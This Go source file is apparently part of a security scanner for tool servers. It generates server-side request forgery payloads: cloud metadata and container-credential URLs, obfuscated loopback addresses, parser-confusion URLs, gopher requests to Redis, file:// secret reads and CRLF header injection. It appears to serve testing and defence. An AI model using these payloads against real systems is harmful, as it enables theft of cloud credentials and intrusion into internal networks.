package attack

import (
	"encoding/binary"
	"fmt"
	"net/netip"
	"net/url"
	"path"
	"slices"
	"strings"

	"github.com/mcpsf/mcpsf"
	"github.com/mcpsf/mcpsf/internal/lazyregexp"
)

// ssrfSecrets is the first index of the files that file URLs reach.
const ssrfSecrets = 80

func ssrf() Class {
	return Class{
		ID:    "ssrf",
		Title: "The server can be made to speak to machines the caller must not reach",
		Yield: kinds{
			"url": 100, "host": 55, "id": 40, "name": 35, "path": 40, "argument": 30, "unknown": 40, "query": 20,
			"template": 20, "markup": 30, "xml": 20, "text": 15, "email": 10,
		}.about(kinds{"text": 60, "unknown": 65, "name": 60, "id": 60, "argument": 50, "query": 40},
			"region", "tenant", "domain", "endpoint", "server", "instance", "host", "account", "organi", "shop", "cluster", "zone", "webhook", "callback", "feed", "site"),
		Payloads: ssrfPayloads,
		Balanced: 8,
	}
}

func ssrfPayloads(w *World, p Place) []Payload {
	switch p.Kind {
	case "url":
		return urlPayloads(w, p)
	case "host":
		return hostPayloads(w)
	}
	return partPayloads(w, p)
}

// inward is a way to write an internal address. ¤ is a host that the server may
// allow, § the address in this notation.
type inward struct {
	form     string
	why      string
	spelling func(w *World, i int) (written, marker string)
}

// urlForms never name a public host: fetching one is the tool's purpose, and
// only the server knows which hosts it allows.
func urlForms() []inward {
	return []inward{
		{"http://§/", "address of the machine itself", dotted},
		{"http://§/latest/meta-data/", "metadata service", fixed("169.254.169.254")},
		{"§", "redirect to the machine itself", redirect},
		{"http://¤@§/", "allowed host as the user name", dotted},
		{"http://¤.§/", "allowed host as the beginning of a name", resolving},
		{"http://§/", "address as one number", decimal},
		{"http://§/?¤", "allowed host in the query", dotted},
		{"http://[§]/", "address in IPv6", mapped},
		{"http://§/", "name that rebinds", rebinding},
		{"http://§/", "name of the machine itself", resolving},
		{"http://§/", "address in hexadecimal", hexadecimal},
		{"http://§/", "address in octal", octal},
		{"http://§/", "address with parts left out", short},
		{"http://§#¤/", "allowed host as the fragment", dotted},
		{"http://¤\\@§/", "backslash that parsers disagree on", dotted},
		{"http://§\\@¤/", "backslash that parsers disagree on", dotted},
		{"http://¤#@§/", "fragment that parsers disagree on", dotted},
		{"http://¤:80@§/", "allowed host and port as the user", dotted},
		{"http://¤ @§/", "space that parsers disagree on", dotted},
		{"http://¤&@§/", "user name that parsers disagree on", dotted},
		{"http:§/", "no slashes", dotted},
		{"http:\\\\§\\", "backslashes for slashes", dotted},
		{"//§/", "no scheme", dotted},
		{"HTTP://§/", "scheme in capitals", dotted},
		{" http://§/", "leading space", dotted},
		{"http://§:80/", "port", dotted},
		{"http://§./", "trailing dot", dotted},
		{"http://§/", "digits that normalise", fullwidth},
		{"http://§/latest/meta-data/", "metadata service as one number", fixed("2852039166", "169.254.169.254")},
		{"http://[§]/latest/meta-data/", "metadata service in IPv6", fixed("fd00:ec2::254")},
		{"http://§/computeMetadata/v1/", "metadata service by name", fixed("metadata.google.internal")},
		{"http://§/latest/meta-data/", "metadata service of another cloud", fixed("100.100.100.200")},
		{"http://§/v2/credentials/", "credentials of a container", fixed("169.254.170.2")},
		{"http://§/", "private network", fixed("10.11.12.13")},
		{"http://§/", "carrier's network", fixed("100.64.7.9")},
		{"gopher://§:6379/_INFO", "other protocol", dotted},
		{"dict://§:11211/stat", "other protocol", dotted},
		{"ftp://§/", "other protocol", dotted},
		{"ldap://§/", "other protocol", dotted},
		{"jar:http://§/x!/y", "address in an address", dotted},
		{"url:http://§/", "address in an address", dotted},
		{"view-source:http://§/", "address in an address", dotted},
	}
}

func urlPayloads(w *World, p Place) []Payload {
	friend := allowed(p)
	var all []Payload
	for i, f := range urlForms() {
		written, marker := f.spelling(w, i)
		value := fill(f.form, friend, written)
		// Some tools accept only https. It does not matter that no TLS server
		// answers there.
		if rest, ok := strings.CutPrefix(value, "http://"); ok && strings.HasPrefix(p.text(), "https://") {
			value = "https://" + rest
		}
		// The first two are plain URLs: a tool that fetches any URL fetches them.
		all = append(all, Payload{Value: value, Sign: mcpsf.SignRequest, Marker: marker, Why: f.why, Plain: i < 2})
		if i == 2 {
			secret := w.Secret(ssrfSecrets)
			all = append(all, Payload{Value: "file://" + secret, Sign: mcpsf.SignOpen, Marker: secret, Why: "address of a file"})
		}
	}
	for i, form := range []string{"file://localhost§", "file:§", "FILE://§", "local_file:§", "netdoc:§", "url:file://§", "file://" + friend + "/" + climb + "§"} {
		secret := w.Secret(ssrfSecrets + 1 + i)
		all = append(all, Payload{Value: fill(form, "", secret), Sign: mcpsf.SignOpen, Marker: secret, Why: "address of a file in another spelling"})
	}
	return all
}

func hostPayloads(w *World) []Payload {
	var all []Payload
	for i, f := range []inward{
		{"§", "metadata service", fixed("169.254.169.254")},
		{"§", "address of the machine itself", dotted},
		{"§", "name of the machine itself", resolving},
		{"§", "address as one number", decimal},
		{"§", "address in IPv6", mapped},
		{"§", "address in hexadecimal", hexadecimal},
		{"§", "address with parts left out", short},
		{"§", "name that rebinds", rebinding},
		{"§/", "address and path", dotted},
		{"§#", "address and fragment", dotted},
		{"x@§", "user name", dotted},
	} {
		written, marker := f.spelling(w, i)
		// The first two are plain URLs, as above. Of the others, some are not
		// valid hosts, and some rebind only for a client that resolves twice.
		all = append(all, Payload{Value: fill(f.form, "", written), Sign: mcpsf.SignRequest, Marker: marker, Why: f.why, Plain: i < 2})
	}
	return all
}

// partPayloads are for values that are not URLs but may become part of one. A
// server that resolves the host in such a value has used it as a host.
func partPayloads(w *World, p Place) []Payload {
	ordinary := p.text()
	var all []Payload
	for i, f := range []struct {
		form, why string
		// address says that the value is itself an address.
		address bool
	}{
		{"@§/", "end of a user name", false},
		{"§/#", "host and the beginning of a fragment", true},
		{".§/", "end of a name", false},
		{"http://§/", "address where none belongs", true},
		{"//§/", "address without a scheme", true},
		{"¤@§/", "value as the user name", false},
		{"§/?", "host and the beginning of a query", true},
		{"x:y@§:80/#", "user name and password", false},
		{"\\\\§\\share\\x", "file of another machine", true},
		{"https://§/", "address where none belongs", true},
		{"/\\§/", "address that parsers disagree on", false},
		{"¤\r\nHost: §\r\n", "head of a request", false},
		{"![x](http://§/x.png)", "image", true},
		{"<img src=\"http://§/x.png\">", "image", true},
	} {
		marker := w.Host(i)
		all = append(all, Payload{
			Value: fill(f.form, ordinary, marker), Sign: mcpsf.SignRequest, Marker: marker, Why: f.why, Plain: f.address && p.free(),
		})
	}
	return all
}

// host matches a host name in prose.
var host = lazyregexp.New(`\b(?:[a-z0-9](?:[a-z0-9-]{0,40}[a-z0-9])?\.){1,4}[a-z]{2,12}\b`)

// maxHosts bounds how many of these names are read.
// no gap: bounds payloads and how an answer is compared; attacks show weaknesses, and the profile bounds them
const maxHosts = 8

// allowed returns a host that the server accepts: one that its texts name, or
// the host of the ordinary value.
func allowed(p Place) string {
	for _, name := range host.FindAllString(strings.ToLower(p.Description[:min(len(p.Description), maxSaid)]+" "+p.Pattern[:min(len(p.Pattern), maxSaid)]), maxHosts) {
		if !slices.Contains(endings(), path.Ext(name)) && name != "e.g" && name != "i.e" {
			return name
		}
	}
	if u, err := url.Parse(strings.TrimSpace(p.text())); err == nil && u.Hostname() != "" {
		return u.Hostname()
	}
	return "www.example.com"
}

// fixed returns a fixed spelling of an address, and the address itself.
func fixed(written string, address ...string) func(*World, int) (string, string) {
	return func(*World, int) (string, string) {
		if len(address) > 0 {
			return written, address[0]
		}
		return written, written
	}
}

func dotted(w *World, i int) (string, string) { return w.Loopback(i), w.Loopback(i) }

func redirect(w *World, i int) (string, string) { return w.Redirect(i) }

func rebinding(w *World, i int) (string, string) { return w.Rebinding(i) }

func resolving(w *World, i int) (string, string) { return w.Inward(i) }

func decimal(w *World, i int) (string, string) {
	return spell(w, i, func(a [4]byte) string { return fmt.Sprint(binary.BigEndian.Uint32(a[:])) })
}

func hexadecimal(w *World, i int) (string, string) {
	return spell(w, i, func(a [4]byte) string { return fmt.Sprintf("0x%08x", a[:]) })
}

func octal(w *World, i int) (string, string) {
	return spell(w, i, func(a [4]byte) string { return fmt.Sprintf("0%o.0%o.0%o.0%o", a[0], a[1], a[2], a[3]) })
}

func short(w *World, i int) (string, string) {
	return spell(w, i, func(a [4]byte) string {
		return fmt.Sprintf("%d.%d", a[0], binary.BigEndian.Uint32([]byte{0, a[1], a[2], a[3]}))
	})
}

func mapped(w *World, i int) (string, string) { return "::ffff:" + w.Loopback(i), w.Loopback(i) }

func spell(w *World, i int, write func([4]byte) string) (string, string) {
	marker := w.Loopback(i)
	a, _ := netip.ParseAddr(marker)
	return write(a.As4()), marker
}

// fullwidth writes the digits as Unicode characters that normalise to them.
func fullwidth(w *World, i int) (string, string) {
	marker := w.Loopback(i)
	return strings.Map(func(r rune) rune {
		if r >= '0' && r <= '9' {
			return r - '0' + '\uff10'
		}
		return '\u3002'
	}, marker), marker
}
